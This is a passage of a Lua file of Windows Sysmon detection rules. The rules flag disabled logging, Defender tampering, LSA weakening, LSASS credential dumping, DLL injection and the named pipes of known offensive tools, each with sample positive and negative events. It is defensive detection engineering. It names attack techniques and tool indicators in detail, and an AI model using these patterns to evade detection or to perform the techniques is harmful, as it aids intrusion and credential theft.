  title = "Registry change that stops event logging",
  description = "EventLog service Start=4, an Autologger or channel Enabled=0, the MiniNt key, or script-block "
    .. "logging switched off silence logs without clearing them.",
  technique = { "T1562.002" },
  falsepositives = { "Hardening baselines that disable unneeded autologgers" },
  match = function(p)
    local t, d = low(p.target_object), low(p.details)
    if t:find("\\control\\minint", 1, true) then return true, "MiniNt key" end
    if t:find("\\services\\eventlog\\start$") and d:find("0x00000004", 1, true) then return true, "EventLog disabled" end
    -- only an autologger session's own switch or a channel's, and only for the logs detections live on:
    -- Windows and installers (wevtutil im) flip optional channels and per-provider entries all the time
    local chan = t:match("\\wmi\\autologger\\(eventlog%-[^\\]+)\\enabled$") or t:match("\\winevt\\channels\\([^\\]+)\\enabled$")
    if chan and d:find("0x00000000", 1, true) and F27(chan) then
      return true, "channel disabled"
    end
    return (t:find("enablescriptblocklogging$") or t:find("enablemodulelogging$")) ~= nil and d:find("0x00000000", 1, true) ~= nil,
      "PowerShell logging disabled"
  end,
  examples = {
    positive = { { _id = 13, TargetObject = [[HKLM\System\CurrentControlSet\Services\EventLog\Start]], Details = "DWORD (0x00000004)" },
                 { _id = 12, EventType = "CreateKey", TargetObject = [[HKLM\System\CurrentControlSet\Control\MiniNt]] },
                 { _id = 13, TargetObject = [[HKLM\System\CurrentControlSet\Control\WMI\Autologger\EventLog-Security\Enabled]],
                   Details = "DWORD (0x00000000)" } },
    negative = { { _id = 13, TargetObject = [[HKLM\System\CurrentControlSet\Services\EventLog\Start]], Details = "DWORD (0x00000002)" },
                 { _id = 13, Image = [[C:\Windows\System32\svchost.exe]], Details = "DWORD (0x00000000)",
                   TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\Microsoft-Windows-CAPI2/Operational\Enabled]] },
                 { _id = 13, TargetObject = [[HKLM\SOFTWARE\App\Enabled]], Details = "DWORD (0x00000000)" } },
  },
}

rules.define {
  id = "win.reg_defender_disabled", platform = "windows", logsource = "registry_set", severity = "high",
  title = "Defender disabled or given an exclusion in the registry",
  description = "DisableAntiSpyware, Real-Time Protection Disable* values set to 1, TamperProtection off, or a new "
    .. "path under Exclusions blind Microsoft Defender.",
  technique = { "T1562.001" },
  falsepositives = { "Third-party antivirus installers" },
  match = function(p)
    local t, d = low(p.target_object), low(p.details)
    if not t:find("\\windows defender\\", 1, true) then return false end
    if t:find("\\exclusions\\", 1, true) then return true, "exclusion " .. tostring(p.target_object) end
    if t:find("\\disable[%a]+$") and d:find("0x00000001", 1, true) then return true, "sets " .. tostring(p.target_object) end
    return t:find("\\tamperprotection$") ~= nil and (d:find("0x00000000", 1, true) or d:find("0x00000004", 1, true)) ~= nil
  end,
  examples = {
    positive = { { _id = 13, TargetObject = [[HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware]],
                   Details = "DWORD (0x00000001)", Image = [[C:\Windows\system32\reg.exe]] },
                 { _id = 13, TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Users\Public]],
                   Details = "DWORD (0x00000000)" } },
    negative = { { _id = 13, TargetObject = [[HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware]],
                   Details = "DWORD (0x00000000)" } },
  },
}

rules.define {
  id = "win.reg_com_hijack", platform = "windows", logsource = "registry_set", severity = "medium",
  title = "Per-user COM server registered",
  description = "An InprocServer32/LocalServer32 under HKCU\\Software\\Classes\\CLSID overrides the machine-wide "
    .. "COM object: code runs whenever any program loads it.",
  technique = { "T1546.015" },
  falsepositives = { "Per-user installs of apps with COM components (OneDrive, Teams)" },
  match = function(p)
    local t, d = low(p.target_object), low(p.details)
    -- OneDrive registers its per-user COM servers on every update
    if low(p.image):find("\\onedrive\\", 1, true) then return false end
    if not ((t:find("^hku\\") or t:find("^hkcu\\")) and t:find("\\clsid\\", 1, true)
            and (t:find("\\inprocserver32$") or t:find("\\inprocserver32\\%(default%)$")
                 or t:find("\\localserver32$") or t:find("\\localserver32\\%(default%)$"))) then
      return false
    end
    return not F28(d), "server " .. tostring(p.details)
  end,
  examples = {
    positive = { { _id = 13, TargetObject = [[HKU\S-1-5-21-1-2-3-1000_Classes\CLSID\{BCDE0395-E52F-467C-8E3D-C4579291692E}\InprocServer32\(Default)]],
                   Details = [[C:\Users\a\AppData\Roaming\x.dll]] } },
    negative = { { _id = 13, TargetObject = [[HKLM\SOFTWARE\Classes\CLSID\{0000}\InprocServer32\(Default)]],
                   Details = [[C:\Windows\System32\x.dll]] },
                 { _id = 12, EventType = "CreateKey", Image = [[C:\Users\a\AppData\Local\Microsoft\OneDrive\19.002.0107.0005\FileSyncConfig.exe]],
                   TargetObject = [[HKU\S-1-5-21-1-2-3-1104_Classes\CLSID\{A0396A93-DC06-4AEF-BEE9-95FFCCAEF20E}\InprocServer32]] } },
  },
}

rules.define {
  id = "win.reg_lsa_weakened", platform = "windows", logsource = "registry_set", severity = "high",
  title = "LSA protection weakened or a package added",
  description = "WDigest UseLogonCredential=1 (cleartext passwords in memory), RunAsPPL=0, DisableRestrictedAdmin=0 "
    .. "or new Security/Authentication/Notification Packages load code into LSASS.",
  technique = { "T1556", "T1547.005", "T1112" },
  falsepositives = { "Password-filter products (Notification Packages)" },
  match = function(p)
    local t, d = low(p.target_object), low(p.details)
    if t:find("\\wdigest\\uselogoncredential$") then return d:find("0x00000001", 1, true) ~= nil, "WDigest on" end
    if not t:find("\\control\\lsa\\", 1, true) then return false end
    if t:find("\\runasppl$") then return d:find("0x00000000", 1, true) ~= nil, "RunAsPPL off" end
    if t:find("\\disablerestrictedadmin$") then return d:find("0x00000000", 1, true) ~= nil, "restricted admin on" end
    return (t:find("\\security packages$") or t:find("\\authentication packages$") or t:find("\\notification packages$")) ~= nil,
      "packages " .. d
  end,
  examples = {
    positive = { { _id = 13, TargetObject = [[HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential]],
                   Details = "DWORD (0x00000001)" },
                 { _id = 13, TargetObject = [[HKLM\System\CurrentControlSet\Control\Lsa\Security Packages]], Details = "kerberos msv1_0 mimilib" } },
    negative = { { _id = 13, TargetObject = [[HKLM\System\CurrentControlSet\Control\Lsa\RunAsPPL]], Details = "DWORD (0x00000001)" },
                 { _id = 13, TargetObject = [[HKLM\System\CurrentControlSet\Control\Lsa\LmCompatibilityLevel]], Details = "DWORD (0x00000005)" } },
  },
}

rules.define {
  id = "win.reg_uac_bypass_handler", platform = "windows", logsource = "registry_event", severity = "high",
  title = "Shell open command hijacked for a UAC bypass",
  description = "ms-settings, mscfile, exefile or Folder shell\\open\\command under HKCU (fodhelper, eventvwr, sdclt, "
    .. "computerdefaults bypasses) makes an auto-elevating binary start the attacker's command.",
  technique = { "T1548.002" },
  falsepositives = { "None known" },
  match = function(p)
    local t = low(p.target_object)
    return (t:find("^hku\\") or t:find("^hkcu\\")) and F29(t) ~= nil, "sets " .. tostring(p.target_object)
  end,
  examples = {
    positive = { { _id = 13, TargetObject = [[HKU\S-1-5-21-1-2-3-1000_Classes\ms-settings\shell\open\command\DelegateExecute]],
                   Details = "(Empty)", Image = PS },
                 { _id = 12, EventType = "CreateKey", TargetObject = [[HKU\S-1-5-21-1-2-3-1000_Classes\mscfile\shell\open\command]] } },
    negative = { { _id = 13, TargetObject = [[HKLM\SOFTWARE\Classes\mscfile\shell\open\command\(Default)]], Details = "mmc.exe %1" } },
  },
}

rules.define {
  id = "win.reg_service_or_appinit_persistence", platform = "windows", logsource = "registry_set", severity = "high",
  title = "Service ImagePath, AppInit_DLLs or a startup folder redirected",
  description = "A service ImagePath pointing at a shell or user folder, AppInit_DLLs/AppCertDlls, or User Shell "
    .. "Folders Startup moved elsewhere run code at every boot, process start or logon.",
  technique = { "T1543.003", "T1546.010", "T1547.001" },
  falsepositives = { "Installers writing their own service paths" },
  match = function(p)
    local t, d = low(p.target_object), low(p.details)
    if t:find("\\services\\[^\\]+\\imagepath$") then
      return hit(F30(d), "ImagePath ")
    end
    if t:find("\\appinit_dlls$") or t:find("\\appcertdlls\\") then return d ~= "" and d ~= "(empty)", "DLLs " .. d end
    if t:find("\\user shell folders\\startup$") or t:find("\\user shell folders\\common startup$") then
      return not d:find("\\microsoft\\windows\\start menu\\programs\\startup$"), "startup folder " .. d
    end
    return false
  end,
  examples = {
    positive = { { _id = 13, TargetObject = [[HKLM\System\CurrentControlSet\Services\upd\ImagePath]], Details = [[cmd /c C:\t\a.bat]] },
                 { _id = 13, TargetObject = [[HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows\AppInit_DLLs]], Details = [[C:\t\a.dll]] },
                 { _id = 13, TargetObject = [[HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders\Startup]],
                   Details = [[C:\Users\Public\st]] } },
    negative = { { _id = 13, TargetObject = [[HKLM\System\CurrentControlSet\Services\App\ImagePath]], Details = [["C:\Program Files\App\svc.exe"]] },
                 { _id = 13, TargetObject = [[HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders\Startup]],
                   Details = [[%USERPROFILE%\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup]] } },
  },
}

-- ---- network connections (Sysmon 3) --------------------------------------

local net_lolbins = m.set { "rundll32.exe", "regsvr32.exe", "mshta.exe", "certutil.exe", "msbuild.exe",
                            "installutil.exe", "regasm.exe", "regsvcs.exe", "cmstp.exe", "odbcconf.exe",
                            "notepad.exe", "calc.exe", "hh.exe", "wmic.exe", "forfiles.exe", "msxsl.exe",
                            "control.exe", "mavinject.exe", "wuauclt.exe" }
local function loopback(ip) return ip == nil or ip:find("^127%.") or ip == "::1" or ip:find("^0:0:0:0:0:0:0:1") end

rules.define {
  id = "win.lolbin_network_connection", platform = "windows", logsource = "network_connection", severity = "high",
  title = "Signed proxy binary makes a network connection",
  description = "rundll32, regsvr32, mshta, certutil, msbuild, notepad... connecting out are usually fetching a "
    .. "payload or hosting a beacon.",
  technique = { "T1218", "T1071.001" },
  falsepositives = { "rundll32 hosting legitimate control-panel applets that check for updates" },
  match = function(p)
    return net_lolbins[p.name or ""] and p.initiated and not loopback(p.dest_ip) and true or false,
      tostring(p.name) .. " -> " .. tostring(p.dest_ip) .. ":" .. tostring(p.dest_port)
  end,
  examples = {
    positive = { { Image = [[C:\Windows\System32\regsvr32.exe]], ProcessId = "4412", Protocol = "tcp", Initiated = "true",
                   SourceIp = "10.0.2.15", SourcePort = "49704", DestinationIp = "93.184.216.34", DestinationPort = "80" } },
    negative = { { Image = [[C:\Program Files\Mozilla Firefox\firefox.exe]], Initiated = "true", DestinationIp = "93.184.216.34",
                   DestinationPort = "443" },
                 { Image = [[C:\Windows\System32\rundll32.exe]], Initiated = "true", DestinationIp = "127.0.0.1", DestinationPort = "8080" } },
  },
}

rules.define {
  id = "win.script_host_network_connection", platform = "windows", logsource = "network_connection", severity = "medium",
  title = "Script host or PowerShell connects to a rare port",
  description = "wscript, cscript or PowerShell connecting out on a port other than 80/443/DNS/LDAP/SMB is a beacon "
    .. "or a reverse shell.",
  technique = { "T1059", "T1571" },
  falsepositives = { "Admin scripts talking to management ports" },
  match = function(p)
    local n = p.name or ""
    if not (n == "wscript.exe" or n == "cscript.exe" or n == "powershell.exe" or n == "pwsh.exe") then return false end
    local port = p.dest_port or 0
    return p.initiated and not loopback(p.dest_ip) and port ~= 80 and port ~= 443 and port ~= 53 and port ~= 389
      and port ~= 445 and port ~= 135 and port ~= 5985 and port ~= 5986 and port ~= 88 and true or false
  end,
  examples = {
    positive = { { Image = PS, Initiated = "true", DestinationIp = "10.0.0.5", DestinationPort = "4444", Protocol = "tcp" } },
    negative = { { Image = PS, Initiated = "true", DestinationIp = "10.0.0.5", DestinationPort = "443" },
                 { Image = [[C:\Windows\System32\svchost.exe]], Initiated = "true", DestinationIp = "10.0.0.5", DestinationPort = "4444" } },
  },
}

-- ---- image loads (Sysmon 7) ----------------------------------------------

local odd_loaders = m.set { "rundll32.exe", "regsvr32.exe", "mshta.exe", "wscript.exe", "cscript.exe", "msbuild.exe",
                            "installutil.exe", "regasm.exe", "regsvcs.exe", "cmd.exe", "powershell.exe", "pwsh.exe",
                            "wmic.exe", "notepad.exe", "excel.exe", "winword.exe", "powerpnt.exe", "outlook.exe" }
local function odd_image(p)
  return odd_loaders[p.name or ""] or user_dirs_f(low(p.image)) ~= nil
end

rules.define {
  id = "win.credential_dll_loaded_unusual", platform = "windows", logsource = "image_load", severity = "high",
  title = "Dump or credential DLL loaded by a script host, LOLBin or user-folder program",
  description = "dbghelp/dbgcore (MiniDumpWriteDump), vaultcli (the credential vault) and samlib (SAM queries) in a "
    .. "process that has no business with them is a credential dumper at work.",
  technique = { "T1003.001", "T1555.004" },
  falsepositives = { "Crash reporters bundled with user-installed apps" },
  match = function(p)
    local l = p.loaded_name or ""
    if not (l == "dbghelp.dll" or l == "dbgcore.dll" or l == "vaultcli.dll" or l == "samlib.dll") then return false end
    return odd_image(p) and true or false, tostring(p.name) .. " loads " .. l
  end,
  examples = {
    positive = { { Image = [[C:\Windows\System32\rundll32.exe]], ImageLoaded = [[C:\Windows\System32\dbgcore.dll]], ProcessId = "5012" },
                 { Image = [[C:\Users\a\Downloads\x.exe]], ImageLoaded = [[C:\Windows\System32\vaultcli.dll]] } },
    negative = { { Image = [[C:\Windows\System32\WerFault.exe]], ImageLoaded = [[C:\Windows\System32\dbghelp.dll]] },
                 { Image = [[C:\Windows\System32\rundll32.exe]], ImageLoaded = [[C:\Windows\System32\shell32.dll]] } },
  },
}

rules.define {
  id = "win.clr_loaded_by_script_host", platform = "windows", logsource = "image_load", severity = "high",
  title = ".NET runtime loaded into a script host or Office",
  description = "clr.dll/mscoree.dll in wscript, cscript, mshta or Office is DotNetToJScript or a macro loading a "
    .. ".NET payload in memory.",
  technique = { "T1620", "T1059.007" },
  falsepositives = { "Office add-ins written in .NET (VSTO)" },
  match = function(p)
    local l, n = p.loaded_name or "", p.name or ""
    return (l == "clr.dll" or l == "mscoree.dll" or l == "clrjit.dll") and
      (n == "wscript.exe" or n == "cscript.exe" or n == "mshta.exe") and true or false
  end,
  examples = {
    positive = { { Image = [[C:\Windows\System32\mshta.exe]], ImageLoaded = [[C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll]] } },
    negative = { { Image = PS, ImageLoaded = [[C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll]] } },
  },
}

local hijackable = m.set { "wbemcomn.dll", "iertutil.dll", "wlbsctrl.dll", "version.dll", "wow64log.dll",
                           "cryptbase.dll", "dbghelp.dll", "tsmsisrv.dll", "tsvipsrv.dll", "ualapi.dll",
                           "fveapi.dll", "wininet.dll", "edgegdi.dll", "amsi.dll", "winmm.dll", "dxgi.dll" }
rules.define {
  id = "win.system_dll_from_wrong_path", platform = "windows", logsource = "image_load", severity = "high",
  title = "Windows DLL name loaded from outside System32 (hijack)",
  description = "wbemcomn, iertutil, wlbsctrl, version... loaded from another folder by a system binary is DLL "
    .. "search-order hijacking (a favourite of Covenant and APT loaders).",
  technique = { "T1574.001", "T1574.002" },
  falsepositives = { "Applications that ship their own copy of version.dll or dbghelp.dll in Program Files" },
  match = function(p)
    local l, path = p.loaded_name or "", low(p.image_loaded)
    if not hijackable[l] then return false end
    -- System32 and SysWOW64 themselves, not their subfolders (a wbemcomn.dll in System32\wbem is the hijack)
    if path:find("^%a:\\windows\\system32\\[^\\]+$") or path:find("^%a:\\windows\\syswow64\\[^\\]+$") or path:find("^%a:\\windows\\winsxs\\")
      or path:find("^%a:\\program files") or path:find("\\microsoft\\edge", 1, true) then
      return false
    end
    return true, tostring(p.image_loaded)
  end,
  examples = {
    positive = { { Image = [[C:\Windows\System32\wbem\WmiPrvSE.exe]], ImageLoaded = [[C:\Windows\System32\wbem\wbemcomn.dll]] },
                 { Image = [[C:\Windows\explorer.exe]], ImageLoaded = [[C:\Windows\iertutil.dll]] } },
    negative = { { Image = [[C:\Windows\System32\svchost.exe]], ImageLoaded = [[C:\Windows\System32\wbemcomn.dll]] },
                 { Image = [[C:\Program Files\App\a.exe]], ImageLoaded = [[C:\Program Files\App\version.dll]] } },
  },
}

-- ---- process access (Sysmon 10) and remote threads (Sysmon 8) -------------

local lsass_ok = m.set { "msmpeng.exe", "csrss.exe", "wininit.exe", "lsm.exe", "svchost.exe", "services.exe",
                         "wmiprvse.exe", "vmtoolsd.exe", "mrt.exe", "sense.exe", "mssense.exe", "lsass.exe",
                         "searchindexer.exe", "taskhostw.exe", "smartscreen.exe", "sysmon.exe", "sysmon64.exe",
                         -- the Azure guest agent's log collector walks every process (seen in the OTRF captures)
                         "collectguestlogs.exe", "windowsazureguestagent.exe", "waappagent.exe" }
local read_bits = 0x0010 -- PROCESS_VM_READ

rules.define {
  id = "win.lsass_memory_read", platform = "windows", logsource = "process_access", severity = "high",
  title = "LSASS opened for memory read by an unusual process",
  description = "A handle to lsass.exe with PROCESS_VM_READ (0x1010, 0x1410, 0x1438, 0x143a, 0x1fffff...) from "
    .. "anything but the system and security processes is credential dumping (Mimikatz, procdump, Task Manager, "
    .. "comsvcs).",
  technique = { "T1003.001" },
  falsepositives = { "Third-party security and backup agents (add them to the allow list)",
                     "PowerShell Get-Process (the .NET Process class opens every process with 0x1f3fff), e.g. run "
                       .. "remotely through WinRM: seen in the OTRF capture covenant_psremoting_command" },
  match = function(p)
    local a = p.granted_access or 0
    return p.target_name == "lsass.exe" and (a & read_bits) ~= 0 and not lsass_ok[p.name or ""] and true or false,
      string.format("%s opened lsass with 0x%x", tostring(p.name), a)
  end,
  examples = {
    positive = { { SourceImage = [[C:\Users\a\mimikatz.exe]], SourceProcessId = "3308", TargetImage = [[C:\Windows\system32\lsass.exe]],
                   TargetProcessId = "624", GrantedAccess = "0x1010", CallTrace = [[C:\Windows\SYSTEM32\ntdll.dll+9f5a4]] },
                 { SourceImage = [[C:\Windows\system32\taskmgr.exe]], TargetImage = [[C:\Windows\system32\lsass.exe]],
                   GrantedAccess = "0x1fffff" } },
    negative = { { SourceImage = [[C:\Windows\system32\csrss.exe]], TargetImage = [[C:\Windows\system32\lsass.exe]], GrantedAccess = "0x1fffff" },
                 { SourceImage = [[C:\Windows\explorer.exe]], TargetImage = [[C:\Windows\system32\lsass.exe]], GrantedAccess = "0x1000" } },
  },
}

rules.define {
  id = "win.lsass_access_dump_calltrace", platform = "windows", logsource = "process_access", severity = "critical",
  title = "LSASS accessed through MiniDumpWriteDump or from unbacked code",
  description = "A call trace into dbghelp/dbgcore, comsvcs, or through UNKNOWN (shellcode) when opening lsass is a "
    .. "memory dump in progress.",
  technique = { "T1003.001" },
  falsepositives = { "Windows Error Reporting dumping a crashed lsass (WerFault is allowed)",
                     ".NET programs whose JIT frames show as UNKNOWN when they open lsass with read access "
                       .. "(PowerShell Get-Process in the OTRF capture covenant_psremoting_command)" },
  match = function(p)
    if p.target_name ~= "lsass.exe" or p.name == "werfault.exe" or p.name == "wermgr.exe" then return false end
    local trace = low(p.call_trace)
    local f = F32(trace)
    if f then return true, "call trace " .. f end
    -- JIT-compiled .NET frames are UNKNOWN too: only count them when the handle can read memory
    return trace:find("unknown(", 1, true) ~= nil and ((p.granted_access or 0) & 0x10) ~= 0 and not lsass_ok[p.name or ""],
      "call trace from unbacked code"
  end,
  examples = {
    positive = { { SourceImage = [[C:\Windows\System32\rundll32.exe]], TargetImage = [[C:\Windows\system32\lsass.exe]],
                   GrantedAccess = "0x1fffff",
                   CallTrace = [[C:\Windows\SYSTEM32\ntdll.dll+a0084|C:\Windows\System32\KERNELBASE.dll+2a49d|C:\Windows\System32\dbgcore.DLL+6b5e|C:\Windows\System32\comsvcs.dll+3b6b]] } },
    negative = { { SourceImage = [[C:\Windows\system32\svchost.exe]], TargetImage = [[C:\Windows\system32\lsass.exe]],
                   GrantedAccess = "0x1000", CallTrace = [[C:\Windows\SYSTEM32\ntdll.dll+9f5a4|C:\Windows\System32\KERNELBASE.dll+2a49d]] },
                 { SourceImage = [[C:\WindowsAzure\GuestAgent\CollectGuestLogs.exe]], TargetImage = [[C:\Windows\system32\lsass.exe]],
                   GrantedAccess = "0x1000", CallTrace = [[C:\windows\SYSTEM32\ntdll.dll+9fc24|C:\windows\System32\KERNELBASE.dll+2126e|UNKNOWN(00007FFB3BC81D2B)]] } },
  },
}

rules.define {
  id = "win.remote_thread_into_sensitive_process", platform = "windows", logsource = "create_remote_thread",
  severity = "critical",
  title = "Remote thread created in LSASS, Winlogon or a shell process",
  description = "CreateRemoteThread into lsass, winlogon, explorer or svchost from a user program is code "
    .. "injection for credential theft or hiding.",
  technique = { "T1055.001", "T1055" },
  falsepositives = { "Accessibility and input tools hooking explorer" },
  match = function(p)
    local t, s = p.target_name or "", p.name or ""
    if s == "csrss.exe" or s == "wininit.exe" or s == "services.exe" or s == "system" or s == "" or s == "msmpeng.exe"
      or s == "svchost.exe" or s == "smss.exe" then
      return false
    end
    return (t == "lsass.exe" or t == "winlogon.exe" or t == "explorer.exe" or t == "svchost.exe" or t == "spoolsv.exe")
      and true or false, s .. " -> " .. t
  end,
  examples = {
    positive = { { SourceImage = [[C:\Users\a\x.exe]], SourceProcessId = "4021", TargetImage = [[C:\Windows\system32\lsass.exe]],
                   TargetProcessId = "624", StartAddress = "0x00007FF7A0C1D940", StartModule = "-", StartFunction = "-" } },
    negative = { { SourceImage = [[C:\Windows\system32\csrss.exe]], TargetImage = [[C:\Windows\explorer.exe]], StartModule = [[C:\Windows\System32\kernel32.dll]] } },
  },
}

rules.define {
  id = "win.remote_thread_from_script_or_lolbin", platform = "windows", logsource = "create_remote_thread",
  severity = "high",
  title = "Script host or signed proxy binary creates a remote thread",
  description = "PowerShell, rundll32, regsvr32, mshta, msbuild or wuauclt creating a thread in another process "
    .. "is shellcode injection from a living-off-the-land host.",
  technique = { "T1055", "T1218" },
  falsepositives = { "None known" },
  match = function(p)
    local s = p.name or ""
    return (s == "powershell.exe" or s == "pwsh.exe" or s == "rundll32.exe" or s == "regsvr32.exe" or s == "mshta.exe"
      or s == "msbuild.exe" or s == "wuauclt.exe" or s == "wscript.exe" or s == "cscript.exe" or s == "installutil.exe"
      or s == "cmd.exe") and true or false, s .. " -> " .. tostring(p.target_name)
  end,
  examples = {
    positive = { { SourceImage = [[C:\Windows\System32\wuauclt.exe]], TargetImage = [[C:\Windows\System32\notepad.exe]],
                   StartAddress = "0x000001D5B5C80000", StartModule = "-", StartFunction = "-" },
                 { SourceImage = PS, TargetImage = [[C:\Windows\explorer.exe]], StartModule = [[C:\Windows\System32\KERNEL32.DLL]],
                   StartFunction = "LoadLibraryA" } },
    negative = { { SourceImage = [[C:\Program Files\VMware\VMware Tools\vmtoolsd.exe]], TargetImage = [[C:\Windows\explorer.exe]] } },
  },
}

rules.define {
  id = "win.remote_thread_loadlibrary", platform = "windows", logsource = "create_remote_thread", severity = "high",
  title = "Remote thread starts at LoadLibrary",
  description = "A thread created in another process at kernel32!LoadLibraryA/W is classic DLL injection.",
  technique = { "T1055.001" },
  falsepositives = { "Debuggers and some accessibility tools" },
  match = function(p)
    local f = low(p.start_function)
    return (f == "loadlibrarya" or f == "loadlibraryw" or f == "loadlibraryexa" or f == "loadlibraryexw")
      and p.name ~= "csrss.exe" and true or false, tostring(p.name) .. " -> " .. tostring(p.target_name)
  end,
  examples = {
    positive = { { SourceImage = [[C:\Users\a\inj.exe]], TargetImage = [[C:\Windows\System32\notepad.exe]],
                   StartModule = [[C:\Windows\System32\KERNEL32.DLL]], StartFunction = "LoadLibraryW" } },
    negative = { { SourceImage = [[C:\Users\a\inj.exe]], TargetImage = [[C:\Windows\System32\notepad.exe]],
                   StartModule = [[C:\Windows\System32\ntdll.dll]], StartFunction = "RtlUserThreadStart" } },
  },
}

-- ---- named pipes (Sysmon 17, 18) ------------------------------------------

local tool_pipes = m.wildcards {
  "\\msse-*-server", "\\msagent_*", "\\postex_*", "\\status_*", "\\mojo.5688.8052.*", "\\mojo.5688.8052.35780273329370473*",
  "\\win_svc", "\\dce_3d*", "\\wkssvc_*", "\\gruntsvc", "\\remcom_*", "\\csexecsvc*",
  "\\paexec*", "\\winpwnagepipe", "\\lsadump*", "\\cachedump*", "\\wceservicepipe", "\\isapi_http", "\\isapi_dg",
  "\\sdlrpc", "\\ahexec", "\\jaccdpqnvbrrxlaf", "\\spoolss_*", "\\demoagent_*", "\\interprocess_*", "\\lsass_*",
  "\\halfduplex_*", "\\svcctl_*", "\\rpc_*", "\\f4c3*", "\\fullduplex_*", "\\6e7645c4-32b5-4fcc-a1b8-*" }
rules.define {
  id = "win.known_tool_named_pipe", platform = "windows", logsource = "pipe_created", severity = "critical",
  title = "Named pipe of a known offensive tool",
  description = "Cobalt Strike's default pipes (MSSE-*-server, msagent_*, postex_*, status_*), RemCom, csexec, "
    .. "PAExec, Covenant's gruntsvc and credential dumpers' pipes.",
  technique = { "T1570", "T1021.002", "T1071" },
  falsepositives = { "Chrome's mojo pipes use other numbers; PAExec used by admins" },
  match = function(p) return tool_pipes(p.pipe_name), "pipe " .. tostring(p.pipe_name) end,
  examples = {
    positive = { { _id = 17, EventType = "CreatePipe", PipeName = [[\MSSE-1234-server]], Image = [[C:\Windows\System32\rundll32.exe]] },
                 { _id = 18, EventType = "ConnectPipe", PipeName = [[\postex_ssh_7a2b]], Image = [[C:\Windows\System32\svchost.exe]] },
                 { _id = 17, PipeName = [[\RemCom_communicaton]], Image = [[C:\Windows\RemComSvc.exe]] } },
    negative = { { _id = 17, PipeName = [[\mojo.6432.7116.12345]], Image = [[C:\Program Files\Google\Chrome\Application\chrome.exe]] },
                 { _id = 18, PipeName = [[\srvsvc]], Image = [[System]] } },
  },
}

rules.define {
  id = "win.psexec_named_pipe", platform = "windows", logsource = "pipe_created", severity = "medium",
  title = "PsExec service pipes",
  description = "\\PSEXESVC and its -stdin/-stdout/-stderr pipes show PsExec (or a clone keeping its names) "
    .. "running a command on this host.",
  technique = { "T1569.002", "T1021.002" },
  falsepositives = { "Administrators using PsExec" },
  match = function(p) return low(p.pipe_name):find("^\\psexesvc") ~= nil, "pipe " .. tostring(p.pipe_name) end,
  examples = {
    positive = { { _id = 17, PipeName = [[\PSEXESVC-WS01-4120-stdin]], Image = [[C:\Windows\PSEXESVC.exe]] } },
    negative = { { _id = 17, PipeName = [[\lsass]], Image = [[C:\Windows\system32\lsass.exe]] } },
  },
}

-- ---- files (Sysmon 11) ---------------------------------------------------

rules.define {
  id = "win.dump_file_of_lsass", platform = "windows", logsource = "file_event", severity = "critical",
  title = "LSASS dump file written",
  description = "A .dmp whose name says lsass (Task Manager's lsass.DMP, procdump's lsass_*.dmp), or known dumper "
    .. "outputs, holds every logged-on credential.",
  technique = { "T1003.001" },
  falsepositives = { "Crash dumps collected by support (WerFault writes under WER folders)" },
  match = function(p)
    local f = low(p.target_filename)
    if f:find("\\wer\\", 1, true) or p.name == "werfault.exe" then return false end
    return (f:find("lsass[^\\]*%.dmp$") or f:find("\\pwdump", 1, true) or f:find("\\nanodump", 1, true)
      or f:find("\\dumpert%.dmp$")) ~= nil, "file " .. tostring(p.target_filename)
  end,
  examples = {
    positive = { { Image = [[C:\Windows\system32\taskmgr.exe]], TargetFilename = [[C:\Users\a\AppData\Local\Temp\lsass.DMP]] },
                 { Image = [[C:\t\procdump64.exe]], TargetFilename = [[C:\t\lsass_210101_120000.dmp]] } },
    negative = { { Image = [[C:\Windows\system32\WerFault.exe]], TargetFilename = [[C:\ProgramData\Microsoft\Windows\WER\ReportQueue\x\lsass.exe.dmp]] },
                 { Image = [[C:\t\procdump64.exe]], TargetFilename = [[C:\t\app.dmp]] } },
  },
}

rules.define {
  id = "win.credential_store_copy_file", platform = "windows", logsource = "file_event", severity = "high",
  title = "Copy of SAM, SYSTEM, SECURITY or ntds.dit written",
  description = "Files named like the registry hives or ntds.dit outside their home folders are offline credential "
    .. "dumps waiting to be exfiltrated.",
  technique = { "T1003.002", "T1003.003" },
  falsepositives = { "Backup products writing to their own folders" },
  match = function(p)
    local f = low(p.target_filename)
    if f:find("^%a:\\windows\\system32\\config\\") or f:find("^%a:\\windows\\ntds\\") or f:find("\\windows\\winsxs\\", 1, true) then
      return false
    end
    return (f:find("\\ntds%.dit$") or f:find("\\sam%.?[%a]*$") and (f:find("%.save$") or f:find("%.hiv$") or f:find("\\sam$"))
      or f:find("\\system%.save$") or f:find("\\security%.save$") or f:find("\\system%.hiv$")) ~= nil,
      "file " .. tostring(p.target_filename)
  end,
  examples = {
    positive = { { Image = [[C:\Windows\system32\reg.exe]], TargetFilename = [[C:\Users\Public\sam.save]] },
                 { Image = [[C:\Windows\system32\ntdsutil.exe]], TargetFilename = [[C:\t\ifm\Active Directory\ntds.dit]] } },
    negative = { { Image = [[C:\Windows\system32\lsass.exe]], TargetFilename = [[C:\Windows\NTDS\ntds.dit]] },
                 { Image = [[C:\app\a.exe]], TargetFilename = [[C:\data\samples.txt]] } },
  },
}

local office = m.set { "winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "msaccess.exe", "mspub.exe", "visio.exe" }
rules.define {
  id = "win.office_drops_executable", platform = "windows", logsource = "file_event", severity = "high",
  title = "Office application writes an executable or script",
  description = "Word, Excel or Outlook writing .exe, .dll, .js, .vbs, .hta, .ps1 or .bat is a macro dropping its "
    .. "next stage.",
  technique = { "T1204.002", "T1105" },
  falsepositives = { "Outlook saving attachments the user opens (they land under Content.Outlook)" },
  match = function(p)
    if not office[p.name or ""] then return false end
    local f = low(p.target_filename)
    if f:find("\\content.outlook\\", 1, true) or f:find("\\inetcache\\", 1, true) then return false end
